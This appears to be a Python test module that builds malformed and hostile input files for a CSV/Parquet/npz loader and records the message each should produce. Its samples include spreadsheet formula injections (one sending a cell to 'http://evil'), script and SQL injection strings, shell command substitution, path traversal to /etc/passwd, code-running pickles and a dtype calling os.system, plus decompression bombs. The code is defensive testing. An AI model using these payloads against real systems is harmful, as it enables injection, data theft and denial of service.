"""Bad files, made by code: what each is, and what has to be said of it.

A file is refused in one sentence or accepted, with a note where something of it was not taken as it stands. Nothing in
it is run: what could run writes to the file named by `SENTINEL` in the environment.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import random
import socket
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np

Make = bytes | Callable[[Path], None]


@dataclass(frozen=True)
class Case:
    """A bad file.

    Args:
        name: of the case, for people.
        file: its name in a folder of its own, or a text to be given as the path as it is.
        make: its bytes, or what writes it.
        says: words of the refusal or, where it is accepted, of its notes.
        accepted: whether it can be compared on; `None` where both are right, and only a crash is wrong.
        names_file: whether the refusal has the path in it: the reader's do, those about a column name the column.
        options: of `prepare`, and `header` of `read_table`.
    """

    name: str
    file: str
    make: Make | None
    says: tuple[str, ...] = ()
    accepted: bool | None = False
    names_file: bool = True
    options: dict[str, Any] = field(default_factory=dict)


CASES: list[Case] = []


def refused(name: str, file: str, make: Make | None, *says: str, column: bool = False, **options: Any) -> None:
    CASES.append(Case(name, file, make, says, False, not column, options))


def accepted(name: str, file: str, make: Make, *says: str, **options: Any) -> None:
    CASES.append(Case(name, file, make, says, True, False, options))


def either(name: str, file: str, make: Make, **options: Any) -> None:
    CASES.append(Case(name, file, make, (), None, False, options))


def table(*, a: Callable[[int], str] | str = "", name: str = "a", y: Callable[[int], str] | None = None) -> bytes:
    """A good CSV of 40 rows but for the cells of one column, its name, or the target."""
    lines = [f"{name},b,y"]
    for i in range(40):
        cell = a(i) if callable(a) else a or f"{(i * 37) % 11}.{i}"
        lines.append(f"{cell},{(i * 7) % 5},{y(i) if y else 'pq'[i % 2]}")
    return ("\n".join(lines) + "\n").encode("utf-8", "surrogatepass")


GOOD = table()


class Runs:
    """An object whose unpickling would be noticed."""

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (os.environ.get("SENTINEL", os.devnull), "w"))


# --- Encodings -------------------------------------------------------------------------------------------------------

TEXT = GOOD.decode()
refused("UTF-16, little", "a.csv", b"\xff\xfe" + TEXT.encode("utf-16-le"), "UTF-16", "save it as UTF-8")
refused("UTF-16, big", "a.csv", b"\xfe\xff" + TEXT.encode("utf-16-be"), "UTF-16", "save it as UTF-8")
refused("UTF-32, little", "a.csv", b"\xff\xfe\0\0" + TEXT.encode("utf-32-le"), "UTF-32", "save it as UTF-8")
refused("UTF-32, big", "a.csv", b"\0\0\xfe\xff" + TEXT.encode("utf-32-be"), "UTF-32", "save it as UTF-8")
refused("UTF-16 without a mark", "a.csv", TEXT.encode("utf-16-be"), "binary", "line 1")
refused("mark of UTF-8 and nothing", "a.csv", b"\xef\xbb\xbf", "is empty")
refused(
    "mark of UTF-8 before latin-1", "a.csv", b"\xef\xbb\xbf" + table(a="\xe9").decode().encode("latin-1"), "not UTF-8"
)
accepted("mark of UTF-8", "a.csv", b"\xef\xbb\xbf" + GOOD)
accepted("latin-1", "a.csv", table(a=lambda i: "\xe9\xe8"[i % 2]).decode().encode("latin-1"), "latin-1")
refused("cut off inside a letter", "a.csv", GOOD + "1,2,p\u00e9".encode()[:-1], "has only 1 rows", column=True)
accepted("half of a surrogate pair", "a.csv", table(a=lambda i: "\ud800\udc00"[i % 2]), "latin-1")
accepted("overlong slash", "a.csv", GOOD.replace(b"0.0,", b"\xc0\xaf,"), "latin-1")
accepted("Unicode line separators in cells", "a.csv", table(a=lambda i: "x\u2028y\u0085" + str(i % 3)))
accepted("form feeds and vertical tabs", "a.csv", table(a=lambda i: f"x\f\v{i % 3}z"))
accepted("a byte order mark inside", "a.csv", GOOD + "\ufeff9,9,p\n".encode())
accepted("Mac line ends", "a.csv", GOOD.replace(b"\n", b"\r"))
accepted("mixed line ends", "a.csv", GOOD.replace(b"\n", b"\r\n", 3).replace(b"p\n", b"p\r", 2))
accepted("no last line end", "a.csv", GOOD.rstrip())
accepted("blank lines everywhere", "a.csv", GOOD.replace(b"\n", b"\n\n"))
accepted("right-to-left override", "a.csv", table(name="\u202egnp.exe"))
accepted("zero-width twins", "a.csv", GOOD.replace(b"a,b", "a\u200b,a".encode()))

# --- Bytes that are no text ------------------------------------------------------------------------------------------

refused("NUL in the header", "a.csv", b"a\0,b,y\n1,2,p\n", "NUL", "line 1")
refused("NUL after megabytes", "a.csv", b"a,b,y\n" + b"1,2,p\n" * 1_000_000 + b"\0", "NUL", "line 1000002")
refused("nothing but NUL", "a.csv", bytes(5_000_000), "NUL")
refused("gzip called CSV", "a.csv", gzip.compress(GOOD), "gzip", "unpack it")
refused("gzip cut off", "a.csv", gzip.compress(GOOD)[:40], "gzip")
refused("bzip2 called CSV", "a.csv", bz2.compress(GOOD), "binary")
refused("xz called CSV", "a.csv", lzma.compress(GOOD), "xz")
refused("zstandard called CSV", "a.csv", b"\x28\xb5\x2f\xfd" + bytes(range(1, 200)), "zstandard")
refused("7z called CSV", "a.csv", b"7z\xbc\xaf\x27\x1c\0\4", "7z")
refused("old Excel called CSV", "a.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "Excel")
refused("a program called CSV", "a.csv", lambda path: copy_start(sys.executable, path), "binary")
refused("PNG called CSV", "a.csv", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "binary")
refused(
    "Parquet called CSV", "a.csv", lambda path: parquet("SELECT range AS a FROM range(9)", path), "binary", ".parquet"
)
refused("npz called CSV", "a.csv", lambda path: zipped(path, good_arrays()), "binary")
refused("pickle called CSV", "a.csv", pickle.dumps(Runs(), protocol=4), "binary")
either("pickle of protocol 0 called CSV", "a.csv", pickle.dumps(Runs(), protocol=0))
refused("gzip bomb called CSV", "a.csv", lambda path: gzip_bomb(path), "gzip")
refused(
    "HTML called CSV", "a.csv", b"<!DOCTYPE html>\n<html><body>\n<p>a, b, c</p>\n<script>x(1,2)</script>\n", "cells"
)
either("JSON called CSV", "a.csv", b'{"a": [1, 2],\n "b": {"c": 3}}\n')
either("random bytes called CSV", "a.csv", random.Random(0).randbytes(20_000).replace(b"\0", b"\1"))
for suffix in (".csv.gz", ".xlsx", ".json", ".pkl", ".npy", ".h5", ".zip", ".py", ""):
    refused(f"suffix {suffix!r}", f"a{suffix}", GOOD, "unknown suffix", ".csv, .tsv")
accepted("suffix in capitals", "A.CSV", GOOD)

# --- Lines and cells -------------------------------------------------------------------------------------------------

refused("empty", "a.csv", b"", "is empty")
refused("blanks", "a.csv", b" \t\r\n \n\n", "is empty")
refused("header only", "a.csv", b"a,b,y\r\n", "header but no rows")
refused("header of empty names", "a.csv", b",,\n", "header but no rows")
refused("a row too long", "a.csv", GOOD + b"1,2,p,4\n", "4 cells in line 42", "3 in its first line")
refused("a row too short", "a.csv", GOOD + b"1,2\n", "2 cells in line 42")
refused("a comment before the header", "a.csv", b"# from a, b\n" + GOOD, "cells in line")
refused("two tables", "a.csv", GOOD + b"\nid,name\n1,x\n", "cells in line")
refused("mixed delimiters", "a.csv", GOOD + b"1;2;p\n" * 3, "cells in line 42", "comma")
refused("a total below", "a.csv", GOOD + b"total\n", "1 cells in line 42")
refused("quote never closed", "a.csv", GOOD + b'"1,2,p\n' + b"3,4,q\n" * 50, "quote in line 42")
refused("quote never closed, megabytes", "a.csv", GOOD + b'"' + b"1,2,p\n" * 3_000_000, "line 42")
refused("a quote alone", "a.csv", b'"', "quote in line 1")
refused("text after a quote", "a.csv", b'a,b,y\n"1"2,3,p\n', "closing quote in line 2")
accepted("quotes inside an unquoted cell", "a.csv", table(a=lambda i: f'5" nail {i % 3}'))
accepted("doubled quotes", "a.csv", table(a=lambda i: f'"say ""{i % 3}"""'))
accepted("line ends in cells", "a.csv", table(a=lambda i: f'"one\ntwo\r\n{i % 3}"'))
accepted("a line end in a name", "a.csv", table(name='"a\nname"'))
accepted("delimiters in cells", "a.csv", table(a=lambda i: f'"1,2;3|4\t{i % 3}"'))
refused("50 MB in one line", "a.csv", lambda path: path.write_bytes(b"1," * 25_000_000), "without a line end in line 1")
refused("50 MB in one cell", "a.csv", lambda path: path.write_bytes(b"a,y\n" + b"x" * 50_000_000), "in line 2")
refused("50 MB of quotes", "a.csv", lambda path: path.write_bytes(b"a,y\n" + b'"' * 50_000_000), "in line 2")
refused("100,000 columns", "a.csv", b",".join(b"c%d" % i for i in range(100_000)) + b"\n", "100000 columns", "20000")
refused("100,000 columns of numbers", "a.csv", b"1," * 100_000 + b"\n", "100001 columns", header=False)
refused("a million empty names", "a.csv", b"," * 1_000_000 + b"\n1\n", "columns")
accepted("20,000 columns", "a.csv", lambda path: wide(path, 20_000, 12), header=True, target="c0")
accepted(
    "1,000 columns, blanks and markers", "a.csv", lambda path: wide(path, 1000, 40, cell=" ?"), "missing", target="c0"
)
refused("1,000 columns, one row short", "a.csv", lambda path: wide(path, 1000, 9, more=b"1,2\n"), "2 cells in line 11")
refused("the same name twice", "a.csv", b"a,y,a\n1,p,2\n", "'a' twice")
refused("the same name in quotes", "a.csv", b"a,'a',y\n1,2,p\n", "'a' twice")
refused("a name of 200 KB", "a.csv", b"x" * 200_000 + b",b,y\n1,2,p\n", "200000 characters")
refused("a name of 2,000 letters", "a.csv", table(name="n" * 2000), "2000 characters", "shorten it")
refused("one column only", "a.csv", b"y\n" + b"p\nq\n" * 20, "no column left", column=True)
refused("one row", "a.csv", b"a,b,y\n1,2,p\n", "one class only", column=True)
refused("two rows", "a.csv", b"a,b,y\n1,2,p\n3,5,q\n", "no column left", column=True)
accepted("names that are numbers", "a.csv", b"1,2,y\n" + GOOD.partition(b"\n")[2], "looks like data")
accepted("a name that is missing", "a.csv", table(name=""), "has no name")
accepted("a cell of a megabyte", "a.csv", GOOD + b"x" * 1_000_000 + b",2,p\n")

# --- Names and cells that other programs obey ------------------------------------------------------------------------

OBEYED = {
    "formula": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "link": '"=HYPERLINK(""http://evil/?x=""&A1)"',
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "escape": "\x1b[2J\x1b]0;owned\x07",
    "backspaces": "good\x08\x08\x08\x08evil",
    "SQL": "'); DROP TABLE cells; --",
    "rowid": "rowid",
    "c1": "c1",
    "function": "read_csv('/etc/passwd')",
    "traversal": "../../../../etc/passwd",
    "template": "{{7*7}}{% import os %}",
    "shell": "$(touch /tmp/x);`id`",
    "braces": "{0.__class__}%s%n",
    "dunder": "__class__",
    "markup": "[link=http://evil]x[/link][bold]",
}
for what, text in OBEYED.items():
    accepted(f"a name: {what}", "a.csv", table(name=text))
    accepted(f"cells: {what}", "a.csv", table(a=lambda i, text=text: f"{i % 2}" if i % 3 else text))
accepted("classes that are formulas", "a.csv", table(y=lambda i: ["=1+1", "@x"][i % 2]))
accepted("classes that are scripts", "a.csv", table(y=lambda i: ["<script>1</script>", "\x1b[31m"][i % 2]))

# --- Values ----------------------------------------------------------------------------------------------------------

refused("decimal commas", "a.csv", table(a=lambda i: f'"{i},5"'), "numbers with commas", "points", column=True)
refused("thousands", "a.csv", table(a=lambda i: f'"{i + 1},234"'), "numbers with commas", column=True)
refused("inf", "a.csv", table(a=lambda i: "inf" if i == 5 else f"{i}.5"), "infinite", "row 6", column=True)
refused("-Infinity", "a.csv", table(a=lambda i: "-Infinity" if i == 5 else f"{i}.5"), "infinite", column=True)
refused("1e999", "a.csv", table(a=lambda i: "1e999" if i == 5 else f"{i}.5"), "infinite", column=True)
accepted("1e-400", "a.csv", table(a=lambda i: "1e-400" if i == 5 else f"{i % 7}.5"))
accepted("hexadecimal", "a.csv", table(a=lambda i: hex(i % 9)))
accepted("underscores", "a.csv", table(a=lambda i: f"1_00{i % 9}"))
accepted("Arabic digits", "a.csv", table(a=lambda i: "٣٤٥"[i % 3]))
accepted("above 2^53", "a.csv", table(a=lambda i: str(2**53 + 1 + i % 3)), "above 2^53")
accepted("400 digits", "a.csv", table(a=lambda i: "7" * 400 + str(i % 3)), "above 2^53")
accepted("5,000 digits", "a.csv", table(a=lambda i: "7" * 5000 + str(i % 3)))
accepted("denormal and huge", "a.csv", table(a=lambda i: ["5e-324", "1.7e308", "-1.7e308"][i % 3]))
accepted("one word among numbers", "a.csv", table(a=lambda i: "unknown" if i == 9 else f"{i % 7}.5"), "read as text")
accepted("truth values", "a.csv", table(a=lambda i: ["TRUE", "false"][i % 3 % 2]))
accepted(
    "every word for missing", "a.csv", table(a=lambda i: ["NA", "null", "", "?", "nan", "3", "4"][i % 7]), "missing"
)
accepted("a column of nothing", "a.csv", table(a="NA"), "no values")
accepted("a constant", "a.csv", table(a="7"), "constant")
accepted("dates", "a.csv", table(a=lambda i: f"2021-01-{i % 28 + 1:02d}"), "dates")
accepted("impossible dates", "a.csv", table(a=lambda i: f"2021-02-{30 + i % 2}"))
accepted("year 0 and 9999", "a.csv", table(a=lambda i: ["0000-01-01", "9999-12-31T23:59:59.999999999+99:99"][i % 2]))
refused(
    "times that contradict",
    "a.csv",
    table(a=lambda i: ["13/01/2021", "01/13/2021"][i % 2]),
    "mixes",
    column=True,
    time="a",
)
refused("times that are none", "a.csv", table(a=lambda i: "soon"), "neither a date", column=True, time="a")
refused("weights below 0", "a.csv", table(a=lambda i: str(-i)), "0 or more", column=True, weight="a")
refused("weights of nothing", "a.csv", table(a="0"), "0 in every row", column=True, weight="a")
refused("weights in words", "a.csv", table(a=lambda i: "=1+1"), "weights are numbers", column=True, weight="a")

# --- Targets ---------------------------------------------------------------------------------------------------------

refused("no such target", "a.csv", GOOD, "not a column", column=True, target="Y2")
refused("target by a huge number", "a.csv", GOOD, "not a column", column=True, target="9" * 500)
refused("target out of range", "a.csv", GOOD, "numbered 0 to 2", column=True, header=False, target=-99)
refused("target in control codes", "a.csv", GOOD, "not a column", column=True, target="\x1b[31m\nx")
refused("target constant", "a.csv", table(y=lambda i: "p"), "one class only", column=True)
refused("target empty", "a.csv", table(y=lambda i: ""), "empty in every row", column=True)
refused("target all '?'", "a.csv", table(y=lambda i: "?"), "empty in every row", column=True)
refused(
    "target partly empty", "a.csv", table(y=lambda i: "pq"[i % 2] if i else ""), "--drop-missing-target", column=True
)
refused("a class of one row", "a.csv", table(y=lambda i: "pq"[i % 2] if i else "r"), "has only 1 rows", column=True)
accepted("classes in other case", "a.csv", table(y=lambda i: ["yes", "Yes"][i % 2]), "differ in case")
accepted("a class called NA", "a.csv", table(y=lambda i: ["NA", "EU"][i % 2]), "'NA'")
refused("names as target", "a.csv", lambda path: ids(path, 1000), "1000 different values", column=True)
refused("a million classes", "a.csv", lambda path: ids(path, 1_000_000), "1000000 different values", column=True)
either("target of infinities", "a.csv", table(y=lambda i: ["inf", "-inf"][i % 2]))
either("target of whole numbers above 2^63", "a.csv", table(y=lambda i: str(2**64 + i % 2)))
either("target of 5,000 digits", "a.csv", table(y=lambda i: "7" * 5000 + str(i % 2)))
either("target of 1e999", "a.csv", table(y=lambda i: ["1e999", "1e998"][i % 2]))
either("target of many fractions", "a.csv", table(y=lambda i: f"{i}.5e300"))

# --- Parquet ---------------------------------------------------------------------------------------------------------


def columns(a: str = "range % 11 + range / 7.0") -> str:
    return f"SELECT {a} AS a, range * 7 % 5 AS b, chr((97 + range % 2)::INT) AS y FROM range(40)"


def stored(a: str = "range % 11 + range / 7.0") -> Callable[[Path], None]:
    return lambda path: parquet(columns(a), path)


def changed(change: Callable[[bytearray], Any], a: str = "range / 7.0") -> Callable[[Path], None]:
    """A Parquet file whose bytes were changed."""

    def make(path: Path) -> None:
        stored(a)(path)
        content = bytearray(path.read_bytes())
        result = change(content)
        path.write_bytes(content if result is None else result)

    return make


P = "a.parquet"
NOT_PARQUET = "not a readable Parquet"
refused("Parquet: empty", P, b"", "is empty")
refused("Parquet: its mark alone", P, b"PAR1", NOT_PARQUET)
refused("Parquet: both marks", P, b"PAR1PAR1", NOT_PARQUET)
refused("Parquet: a footer longer than the file", P, b"PAR1" + b"\xff\xff\xff\x7f" + b"PAR1", NOT_PARQUET)
refused("Parquet: CSV", P, GOOD, NOT_PARQUET)
refused("Parquet: end cut off", P, changed(lambda c: c[:-9]), NOT_PARQUET)
refused("Parquet: start cut off", P, changed(lambda c: c[50:]), NOT_PARQUET)
refused("Parquet: first half of zeros", P, changed(lambda c: c.__setitem__(slice(4, 300), bytes(296))), NOT_PARQUET)
refused("Parquet: encrypted, it says", P, changed(lambda c: c[:-4] + b"PARE"), NOT_PARQUET)
refused("Parquet: no rows", P, lambda path: parquet("SELECT 1 AS a, 2 AS y WHERE false", path), "no rows")
refused("Parquet: lists only", P, lambda path: parquet("SELECT [1] AS a, {'b': 2} AS y", path), "no column of numbers")
either("Parquet: names alike", P, lambda path: names_alike(path))
refused(
    "Parquet: an infinity",
    P,
    stored("CASE WHEN range = 3 THEN 'inf'::DOUBLE ELSE range / 7 END"),
    "infinite",
    column=True,
)
refused(
    "Parquet: millions of equal rows",
    P,
    lambda path: parquet_bomb(path),
    "unpacks from",
    "366 MiB",
    "sample of its rows",
)
accepted("Parquet: 300 columns", P, lambda path: parquet_wide(path, 300), target="c0")
accepted("Parquet: lists beside numbers", P, stored("[range, 1]"), "neither numbers nor text")
accepted("Parquet: structs", P, stored("{'x': range, 'y': [range]}"), "neither numbers nor text")
accepted("Parquet: maps", P, stored("map {'k': range}"), "neither numbers nor text")
accepted("Parquet: blobs", P, stored("'\\xAA\\x00'::BLOB"), "neither numbers nor text")
accepted(
    "Parquet: whole numbers of 128 bits", P, stored("(170141183460469231731687303715884105727 - range % 3)::HUGEINT")
)
accepted("Parquet: decimals", P, stored("(range % 7 / 3)::DECIMAL(38, 20)"))
accepted("Parquet: moments far away", P, stored("make_timestamp((range % 3 - 1) * 9000000000000000)"))
accepted("Parquet: NaN", P, stored("CASE WHEN range = 3 THEN 'nan'::DOUBLE ELSE range / 7 END"), "missing")
accepted(
    "Parquet: a name with quotes",
    P,
    lambda path: parquet(columns().replace("AS a", 'AS "a""; DROP TABLE cells; --"'), path),
)
accepted("Parquet: a name with escapes", P, lambda path: parquet(columns().replace("AS a", 'AS "\x1b[31m<b>"'), path))
accepted("Parquet: text of formulas", P, stored("'=1+' || (range % 3)"))

# --- npz -------------------------------------------------------------------------------------------------------------

Z = "a.npz"
NOT_NPZ = "not a readable .npz"
RNG = np.random.default_rng(0)
XS = RNG.normal(size=(40, 3))
YS = np.array(["p", "q"] * 20)


def packed(**entries: bytes) -> Callable[[Path], None]:
    return lambda path: zipped(path, {name + ".npy": content for name, content in entries.items()})


def npy(header: str, data: bytes = b"", version: bytes = b"\1\0") -> bytes:
    text = header.encode("latin-1")
    text += b" " * (-(len(text) + 11) % 64) + b"\n"
    return b"\x93NUMPY" + version + struct.pack("<H" if version == b"\1\0" else "<I", len(text)) + text + data


def header(shape: str, kind: str = "'<f8'") -> str:
    return f"{{'descr': {kind}, 'fortran_order': False, 'shape': {shape}, }}"


def pickled_npy(shape: str = "(3, 1)") -> bytes:
    return npy(header(shape, "'|O'"), pickle.dumps(Runs(), protocol=4))


OBJECTS = "could run code when read"
refused("npz: objects as target", Z, lambda path: npz(path, X=XS, y=np.array([Runs()] * 40, dtype=object)), OBJECTS)
refused("npz: objects as features", Z, lambda path: npz(path, X=np.array([[Runs()]] * 3, dtype=object)), OBJECTS)
refused("npz: a pickle that claims to be an array", Z, packed(X=pickled_npy()), OBJECTS)
refused(
    "npz: objects inside records", Z, packed(X=npy(header("(3, 1)", "[('a', '|O')]"), pickle.dumps(Runs()))), OBJECTS
)
refused("npz: a pickle as entry", Z, packed(X=pickle.dumps(Runs())), NOT_NPZ)
refused("npz: a pickle", Z, pickle.dumps(Runs()), NOT_NPZ)
refused("npz: a bare array", Z, lambda path: np.save(path.open("wb"), XS), NOT_NPZ)
refused("npz: a bare pickled array", Z, pickled_npy(), NOT_NPZ)
refused("npz: CSV", Z, GOOD, NOT_NPZ)
refused("npz: empty archive", Z, lambda path: zipped(path, {}), "no array called X", "none at all")
refused("npz: cut off", Z, lambda path: cut(path, 300), NOT_NPZ)
refused(
    "npz: paths that climb", Z, lambda path: zipped(path, {"../../evil.npy": npy(header("(1,)"), bytes(8))}), "evil"
)
accepted(
    "npz: paths that climb beside X",
    Z,
    lambda path: zipped(path, good_arrays() | {"../../evil.npy": b"x", "/etc/evil": b"x"}),
)
refused("npz: a petabyte by its header", Z, packed(X=npy(header("(9000000000000, 1000)"))), NOT_NPZ)
refused("npz: longer by its header", Z, packed(X=npy(header("(1000, 3)"), bytes(80))), NOT_NPZ)
refused("npz: shape below 0", Z, packed(X=npy(header("(-5, 3)"), bytes(80))), NOT_NPZ)
refused("npz: shape that overflows", Z, packed(X=npy(header("(4294967296, 4294967296)"), bytes(80))), NOT_NPZ)
refused("npz: shape of words", Z, packed(X=npy(header("('a', 3)"), bytes(80))), NOT_NPZ)
refused("npz: no such type", Z, packed(X=npy(header("(2, 3)", "'<q99'"), bytes(80))), NOT_NPZ)
refused(
    "npz: a call as type", Z, packed(X=npy(header("(2, 3)", "__import__('os').system('true')"), bytes(80))), NOT_NPZ
)
refused("npz: a thousand brackets", Z, packed(X=npy("(" * 4000 + ")" * 4000)), NOT_NPZ)
refused("npz: open bracket", Z, packed(X=npy("{'descr': (")), NOT_NPZ)
refused("npz: header of 2 GB", Z, packed(X=b"\x93NUMPY\2\0\xff\xff\xff\x7f{"), NOT_NPZ)
refused("npz: version 9", Z, packed(X=npy(header("(2, 3)"), bytes(48), b"\x09\0")), NOT_NPZ)
refused(
    "npz: the archive lies about the length", Z, lambda path: patched(path, 24, struct.pack("<I", 0x7FFFFFFF)), NOT_NPZ
)
refused("npz: zip64 that lies", Z, lambda path: patched(path, 24, b"\xff\xff\xff\xff"), NOT_NPZ)
refused("npz: encrypted, it says", Z, lambda path: patched(path, 8, b"\1\0"), NOT_NPZ)
refused("npz: packed in an unknown way", Z, lambda path: patched(path, 10, b"\x63\0"), NOT_NPZ)
refused("npz: wrong checksum", Z, lambda path: patched(path, 16, b"\1\2\3\4"), NOT_NPZ)
refused("npz: broken inside", Z, lambda path: broken_deflate(path), NOT_NPZ)
refused("npz: bomb of a gigabyte", Z, lambda path: npz_bomb(path, mebibytes=1024), "unpacks from", "1 GiB", "savez")
refused("npz: bomb by lzma", Z, lambda path: npz_bomb(path, zipfile.ZIP_LZMA), "unpacks from")
refused("npz: bomb as target", Z, lambda path: npz_bomb(path, name="y"), "unpacks from")
accepted("npz: bomb beside X", Z, lambda path: npz_bomb(path, name="other"))
refused("npz: other names", Z, lambda path: npz(path, weights=XS), "no array called X", "weights")
refused("npz: names with escapes", Z, lambda path: zipped(path, {"\x1b[31mX.npy": b""}), "no array called X")
refused("npz: one dimension", Z, lambda path: npz(path, X=XS[:, 0], y=YS), "(rows, columns)")
either("npz: three dimensions", Z, lambda path: npz(path, X=np.zeros((40, 2, 2)), y=YS))
refused("npz: unequal length", Z, lambda path: npz(path, X=XS, y=YS[:9]), "40 rows")
refused("npz: no rows", Z, lambda path: npz(path, X=XS[:0], y=YS[:0]), "no rows")
refused("npz: no columns", Z, lambda path: npz(path, X=XS[:, :0], y=YS), "no columns")
refused("npz: 30,000 columns", Z, lambda path: npz(path, X=np.zeros((2, 30_000)), y=YS[:2]), "30000 columns")
refused("npz: complex", Z, lambda path: npz(path, X=XS.astype(complex)), "no column of numbers")
refused("npz: bytes", Z, lambda path: npz(path, X=XS.astype("S")), "no column of numbers")
refused("npz: no target", Z, lambda path: npz(path, X=XS), "--target", column=True, target=None)
refused("npz: infinities", Z, lambda path: npz(path, X=np.where(XS > 1, np.inf, XS), y=YS), "infinite", column=True)
accepted("npz: half precision, other end first", Z, lambda path: npz(path, X=np.asfortranarray(XS.astype(">f2")), y=YS))
accepted("npz: text with escapes", Z, lambda path: npz(path, X=np.where(XS > 0, "\x1b[2J", "=1+1"), y=YS))
accepted("npz: X twice", Z, lambda path: twice(path))

# --- Places ----------------------------------------------------------------------------------------------------------

refused("a folder", "a.csv", Path.mkdir, "is a folder", "one file")
refused("a pipe", "a.csv", os.mkfifo, "not a regular file", "save its content")
refused("a pipe called npz", "a.npz", os.mkfifo, "not a regular file")
refused("a socket", "a.csv", lambda path: unix_socket(path), "not a regular file")
for suffix in (".csv", ".npz", ".parquet"):
    refused(f"endless zeros, {suffix}", f"a{suffix}", lambda path: path.symlink_to("/dev/zero"), "not a regular file")
refused("a terminal", "a.csv", lambda path: path.symlink_to("/dev/tty"), "not a regular file")
refused("the memory of the process", "a.csv", lambda path: path.symlink_to("/proc/self/mem"), "is empty")
refused("a link to itself", "a.csv", lambda path: path.symlink_to(path), "cannot be read")
refused("a link to nothing", "a.csv", lambda path: path.symlink_to(path.with_name("gone")), "does not exist")
for suffix in (".csv", ".npz", ".parquet"):
    refused(f"a hole of a terabyte, {suffix}", f"a{suffix}", lambda path: sparse(path, GOOD), "never written")
refused("no such file", "a.csv", None, "does not exist")
for address in (
    "https://example.org/a.csv",
    "s3://bucket/a.parquet",
    "file:///etc/passwd.csv",
    "read_csv('/etc/passwd').csv",
    "*.csv",
    "~/a.csv",
    "/etc/passwd/a.csv",
    "-.csv",
):
    refused(f"an address: {address}", address, None, "does not exist")
refused("no path", "", None, "path of the data is empty", column=True)
refused("a path with NUL", "a\0.csv", None, "NUL", column=True)
refused("a path of 5,000 letters", "x" * 5000 + ".csv", None, "cannot be read", column=True)
refused("a path with escapes", "\x1b[31m\n.csv", None, "does not exist", column=True)
for name in (
    "x'; DROP TABLE cells; --.csv",
    "[ab]*.csv",
    '"; q.csv',
    "-rf.csv",
    "{0}%s.csv",
    "a\nb.csv",
    "ü\u202e.csv",
):
    accepted(f"a file called {name!r}", name, GOOD)


# --- Makers ----------------------------------------------------------------------------------------------------------


def copy_start(source: str, path: Path) -> None:
    with open(source, "rb") as file:
        path.write_bytes(file.read(65536))


def parquet(query: str, path: Path) -> None:
    import duckdb

    literal = str(path).replace("'", "''")
    duckdb.execute(f"COPY ({query}) TO '{literal}' (FORMAT parquet)")


def names_alike(path: Path) -> None:
    parquet("SELECT 1 AS aa, 2 AS ab, 'p' AS y", path)
    content = path.read_bytes()
    path.write_bytes(content.replace(b"ab", b"aA").replace(b"aa", b"Aa"))


def parquet_bomb(path: Path) -> None:
    parquet("SELECT 1::TINYINT AS a, 2::TINYINT AS b, 3::TINYINT AS c, 4::TINYINT AS y FROM range(12000000)", path)


def parquet_wide(path: Path, width: int) -> None:
    cells = ", ".join(f"range * {i % 7 + 1} % 5 AS c{i}" for i in range(1, width))
    parquet(f"SELECT chr((97 + range % 2)::INT) AS c0, {cells} FROM range(40)", path)


def wide(path: Path, width: int, rows: int, cell: str = "", more: bytes = b"") -> None:
    numbers = random.Random(0)
    lines = [",".join(f"c{i}" for i in range(width))]
    for row in range(rows * 2):
        cells = [cell if cell and numbers.random() < 0.1 else f"{numbers.random():.3f}" for _ in range(width - 1)]
        lines.append(",".join(["pq"[row % 2], *cells]))
    text = "\n".join(lines if not more else lines[: rows + 1]) + "\n"
    path.write_bytes(text.encode() + more)


def ids(path: Path, count: int) -> None:
    path.write_text("a,b,y\n" + "".join(f"{i % 97},{i % 89},user {i}\n" for i in range(count)), encoding="utf-8")


def npz(path: Path, **arrays: Any) -> None:
    np.savez(path, **arrays)


def zipped(path: Path, entries: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)


def good_arrays() -> dict[str, bytes]:
    found = {}
    for name, array in (("X.npy", XS), ("y.npy", YS)):
        file = io.BytesIO()
        np.save(file, array)
        found[name] = file.getvalue()
    return found


def cut(path: Path, size: int) -> None:
    npz(path, X=XS, y=YS)
    path.write_bytes(path.read_bytes()[:size])


def patched(path: Path, offset: int, value: bytes) -> None:
    """An archive with other bytes at an offset of its first entry in the central directory."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in good_arrays().items():
            archive.writestr(name, content)
    content = bytearray(path.read_bytes())
    place = content.index(b"PK\1\2") + offset
    content[place : place + len(value)] = value
    path.write_bytes(content)


def broken_deflate(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in good_arrays().items():
            archive.writestr(name, content)
    content = bytearray(path.read_bytes())
    content[60:90] = b"\xff" * 30
    path.write_bytes(content)


def npz_bomb(path: Path, method: int = zipfile.ZIP_DEFLATED, *, name: str = "X", mebibytes: int = 400) -> None:
    count = mebibytes << 17
    shape = f"({count // 128}, 128)" if name == "X" else f"({count},)"
    with zipfile.ZipFile(path, "w", method, compresslevel=1) as archive:
        for other, content in good_arrays().items():
            if other != f"{name}.npy":
                archive.writestr(other, content)
        with archive.open(f"{name}.npy", "w", force_zip64=True) as file:
            file.write(npy(header(shape)))
            zeros = bytes(1 << 20)
            for _ in range(mebibytes):
                file.write(zeros)


def gzip_bomb(path: Path) -> None:
    with gzip.open(path, "wb", compresslevel=1) as file:
        for _ in range(256):
            file.write(bytes(1 << 22))


def twice(path: Path) -> None:
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("X.npy", b"no array")
        for name, content in good_arrays().items():
            archive.writestr(name, content)


def unix_socket(path: Path) -> None:
    before = os.getcwd()
    os.chdir(path.parent)  # the path of a socket may have 107 bytes only
    try:
        with socket.socket(socket.AF_UNIX) as end:
            end.bind(path.name)
    finally:
        os.chdir(before)


def sparse(path: Path, start: bytes) -> None:
    with path.open("wb") as file:
        file.write(start)
        file.truncate(1 << 40)
